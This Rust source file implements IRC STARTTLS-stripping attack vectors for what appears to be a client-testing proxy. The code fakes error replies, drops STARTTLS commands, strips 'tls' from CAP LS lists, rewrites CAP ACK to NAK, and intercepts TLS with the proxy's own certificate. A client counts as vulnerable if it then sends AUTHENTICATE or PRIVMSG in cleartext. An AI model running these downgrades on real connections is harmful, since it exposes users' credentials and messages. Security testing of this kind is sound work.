// SPDX-License-Identifier: Apache-2.0

//! IRC attack vectors (spec.md section 4.3, "IRC"). The STARTTLS-class
//! command here is the non-standard `STARTTLS` extension some IRC daemons
//! and the IRCv3 `CAP` framework advertise.

use std::sync::Arc;

use async_trait::async_trait;

use super::{contains_ci, starts_with_ci, ArcVector, AttackVector, MangleCtx};
use crate::detect::Protocol;
use crate::error::{ProxyError, ProxyResult};

pub enum IrcVector {
    /// `bool` tracks the open question noted in spec.md section 9: the
    /// source's `CAP ACK` rewrite branch returns bare, which its caller
    /// treats as "suppress forwarding" rather than "forward the rewritten
    /// line" used everywhere else in the same function. `true` reproduces
    /// that behaviour (suppresses); `false` forwards the ACK->NAK
    /// rewrite like the CAP LS branch does. The catalogue registers
    /// `true` as the default since that is what the source actually does;
    /// both are kept reachable for tests.
    StripFromCapabilities(bool),
    StripWithError,
    StripWithNotRegistered,
    StripCAPWithNotRegistered,
    StripWithSilentDrop,
    UntrustedIntercept,
}

const SENTINELS: &[&str] = &["authenticate ", "privmsg ", "protoctl "];

fn mark_if_sentinel(ctx: &MangleCtx<'_>, data: &[u8]) {
    if SENTINELS.iter().any(|s| contains_ci(data, s)) {
        ctx.mark_vulnerable();
    }
}

/// Recovers `(server, nick)` from the last line the upstream server sent,
/// defaulting to `this.server.com` / `*` when the line doesn't parse as
/// `:server NNN nick ...` (spec.md section 4.3: "using server/nick fields
/// recovered from the last upstream line if available").
fn recover_server_and_nick(last_upstream_line: &[u8]) -> (String, String) {
    let text = String::from_utf8_lossy(last_upstream_line);
    let mut tokens = text.trim().split_whitespace();
    let server = tokens
        .next()
        .and_then(|t| t.strip_prefix(':'))
        .map(|s| s.to_string());
    let nick = tokens.nth(1).map(|s| s.to_string());
    (
        server.unwrap_or_else(|| "this.server.com".to_string()),
        nick.unwrap_or_else(|| "*".to_string()),
    )
}

fn rewrite_ack_to_nak(data: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(data);
    text.replace("ACK", "NAK").replace("ack", "nak").into_bytes()
}

/// Drops whitespace-delimited tokens mentioning `tls` from a `CAP LS`
/// response line, preserving the rest of the line verbatim.
fn drop_tls_tokens(data: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(data);
    let trailing_newline = text.ends_with('\n');
    let trimmed = text.trim_end_matches(['\r', '\n']);
    let kept: Vec<&str> = trimmed
        .split(' ')
        .filter(|tok| !tok.to_ascii_lowercase().contains("tls"))
        .collect();
    let mut out = kept.join(" ");
    if trailing_newline {
        out.push_str("\r\n");
    }
    out.into_bytes()
}

#[async_trait]
impl AttackVector for IrcVector {
    fn protocol(&self) -> Protocol {
        Protocol::Irc
    }

    fn name(&self) -> &'static str {
        match self {
            IrcVector::StripFromCapabilities(_) => "StripFromCapabilities",
            IrcVector::StripWithError => "StripWithError",
            IrcVector::StripWithNotRegistered => "StripWithNotRegistered",
            IrcVector::StripCAPWithNotRegistered => "StripCAPWithNotRegistered",
            IrcVector::StripWithSilentDrop => "StripWithSilentDrop",
            IrcVector::UntrustedIntercept => "UntrustedIntercept",
        }
    }

    async fn mangle_client_data(
        &self,
        ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            IrcVector::StripFromCapabilities(_) => {
                mark_if_sentinel(ctx, data);
                Ok(Some(data.to_vec()))
            }
            IrcVector::StripWithError => {
                if starts_with_ci(data, "starttls") {
                    let (srv, nick) = recover_server_and_nick(ctx.outbound_last_received());
                    let reply = format!("{srv} 691 {nick} :STARTTLS\r\n");
                    ctx.send_to_client(reply.as_bytes()).await?;
                    return Ok(None);
                }
                mark_if_sentinel(ctx, data);
                Ok(Some(data.to_vec()))
            }
            IrcVector::StripWithNotRegistered => {
                if starts_with_ci(data, "starttls") {
                    let (srv, nick) = recover_server_and_nick(ctx.outbound_last_received());
                    let reply = format!("{srv} 451 {nick} :You have not registered\r\n");
                    ctx.send_to_client(reply.as_bytes()).await?;
                    return Ok(None);
                }
                mark_if_sentinel(ctx, data);
                Ok(Some(data.to_vec()))
            }
            IrcVector::StripCAPWithNotRegistered => {
                if starts_with_ci(data, "cap ls") {
                    let (srv, nick) = recover_server_and_nick(ctx.outbound_last_received());
                    let reply = format!("{srv} 451 {nick} :You have not registered\r\n");
                    ctx.send_to_client(reply.as_bytes()).await?;
                    return Ok(None);
                }
                mark_if_sentinel(ctx, data);
                Ok(Some(data.to_vec()))
            }
            IrcVector::StripWithSilentDrop => {
                if starts_with_ci(data, "starttls") {
                    return Ok(None);
                }
                mark_if_sentinel(ctx, data);
                Ok(Some(data.to_vec()))
            }
            IrcVector::UntrustedIntercept => {
                if starts_with_ci(data, "starttls") {
                    let (srv, nick) = recover_server_and_nick(ctx.outbound_last_received());
                    let reply =
                        format!(":{srv} 670 {nick} :STARTTLS successful, go ahead with TLS handshake\r\n");
                    ctx.send_to_client(reply.as_bytes()).await?;
                    ctx.upgrade_inbound_as_server().await?;
                    ctx.send_to_upstream(data).await?;
                    let resp = ctx.recv_from_upstream(4096).await?;
                    if !contains_ci(&resp, " 670 ") {
                        return Err(ProxyError::ProtocolViolation(
                            "upstream rejected forwarded STARTTLS",
                        ));
                    }
                    ctx.upgrade_outbound_as_client().await?;
                    return Ok(None);
                }
                mark_if_sentinel(ctx, data);
                Ok(Some(data.to_vec()))
            }
        }
    }

    async fn mangle_server_data(
        &self,
        _ctx: &mut MangleCtx<'_>,
        data: &[u8],
    ) -> ProxyResult<Option<Vec<u8>>> {
        match self {
            IrcVector::StripFromCapabilities(suppress_on_ack) => {
                if contains_ci(data, " cap ") && contains_ci(data, " tls") {
                    if contains_ci(data, "cap ack") {
                        if *suppress_on_ack {
                            return Ok(None);
                        }
                        return Ok(Some(rewrite_ack_to_nak(data)));
                    }
                    if contains_ci(data, "cap ls") {
                        return Ok(Some(drop_tls_tokens(data)));
                    }
                }
                Ok(Some(data.to_vec()))
            }
            _ => Ok(Some(data.to_vec())),
        }
    }
}

pub fn all() -> Vec<ArcVector> {
    vec![
        Arc::new(IrcVector::StripFromCapabilities(true)),
        Arc::new(IrcVector::StripWithError),
        Arc::new(IrcVector::StripWithNotRegistered),
        Arc::new(IrcVector::StripCAPWithNotRegistered),
        Arc::new(IrcVector::StripWithSilentDrop),
        Arc::new(IrcVector::UntrustedIntercept),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn recovers_server_and_nick_from_upstream_line() {
        let (srv, nick) = recover_server_and_nick(b":irc.example.com 001 alice :Welcome\r\n");
        assert_eq!(srv, "irc.example.com");
        assert_eq!(nick, "alice");
    }

    #[test]
    fn recovery_falls_back_to_defaults() {
        let (srv, nick) = recover_server_and_nick(b"");
        assert_eq!(srv, "this.server.com");
        assert_eq!(nick, "*");
    }

    #[test]
    fn cap_ls_drops_tls_token_only() {
        let data = b":irc.example.com CAP * LS :multi-prefix tls sasl\r\n";
        let out = drop_tls_tokens(data);
        let text = String::from_utf8(out).unwrap();
        assert!(!text.to_ascii_lowercase().contains("tls"));
        assert!(text.contains("sasl"));
    }

    #[test]
    fn ack_rewrite_flips_to_nak() {
        let out = rewrite_ack_to_nak(b"CAP * ACK :tls");
        assert_eq!(out, b"CAP * NAK :tls".to_vec());
    }
}
